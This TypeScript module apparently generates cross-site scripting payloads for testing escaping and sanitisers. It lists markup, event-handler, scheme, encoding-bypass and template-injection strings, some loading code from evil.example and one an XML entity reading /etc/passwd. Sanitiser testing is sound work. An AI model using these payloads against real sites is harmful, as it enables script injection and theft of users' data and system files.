/**
 * Texts that run a script wherever they are not escaped. Each is a single line of at most 96 characters, and unique.
 */
const RUN = 'alert(1)';

/** Every place where markup can begin: text, attributes, comments, raw text, templates, and known sanitiser gaps. */
const MARKUP: string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `"><svg/onload=${RUN}>`,
  `" onfocus=${RUN} autofocus x="`,
  `' onfocus=${RUN} autofocus x='`,
  `" onmouseover=${RUN} style="position:fixed;inset:0" x="`,
  `javascript:${RUN}`,
  `<a href="javascript:${RUN}">x</a>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</option></select><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<details open ontoggle=${RUN}>`,
  `--><img src=x onerror=${RUN}><!--`,
  `]]><img src=x onerror=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `<math><mtext></p><style><img src=x onerror=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x`,
  `<button formaction="javascript:${RUN}">x`,
  `<input onfocus=${RUN} autofocus>`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<img src=x:x onerror=${RUN}//`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x\`>\`" onerror=${RUN}>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<astro-island component-url="data:text/javascript,${RUN}" client="load">`,
  `<style>@import "//evil.example/x.css"</style>`,
  `style="background:url(javascript:${RUN})"`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\`;${RUN};//`,
  `\\";${RUN};//`,
  `</style><script>${RUN}</script>`,
  `%3Cimg src=x onerror=${RUN}%3E`,
  `＜img src=x onerror=${RUN}＞`,
];

/** The same with any event handler of any element. */
const HANDLERS =
  'click dblclick mousedown mouseenter pointerover pointerrawupdate focusin blur keydown input invalid change submit reset select wheel scroll scrollend copy cut paste drag drop animationstart animationend transitionend transitionrun play pause loadstart error beforetoggle contextmenu beforeinput cancel close resize formdata auxclick gotpointercapture securitypolicyviolation contentvisibilityautostatechange';
const ELEMENTS = ['a', 'p', 'img', 'div', 'audio', 'input', 'dialog', 'marquee', 'x-y', 'svg'];
const BY_HANDLER = HANDLERS.split(' ').map(
  (event, n) => `${n % 2 ? '">' : ''}<${ELEMENTS[n % ELEMENTS.length]} tabindex=1 on${event}=${RUN} src=x>`,
);
const BY_SCHEME = [
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `jAvAsCrIpT:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${RUN}>`,
  `blob:${RUN}`,
  `view-source:javascript:${RUN}`,
  `//evil.example/x.js`,
  `https://evil.example/"onerror=${RUN}`,
  `x:expression(${RUN})`,
  `<a href="\\x6Aavascript:${RUN}">x</a>`,
  `<a href=java&#115;cript:${RUN}>x</a>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<!ENTITY x SYSTEM "file:///etc/passwd">`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[x](javascript:${RUN})`,
  `<plaintext><img src=x onerror=${RUN}>`,
];

const ALL = [...MARKUP, ...BY_SCHEME, ...BY_HANDLER].map((text, n) => `${text} ${n + 1}`);

/** One of each class: an element, a way out of an attribute, of a script, of a field and of a title, a handler, a scheme, templates. */
export const XSS_CLASSES = [0, 1, 4, 5, 9, 14, 15, 12, 21, 50].map((n) => ALL[n] ?? '');

/** The first `count` of them. */
export const xssPayloads = (count: number): string[] => ALL.slice(0, count);
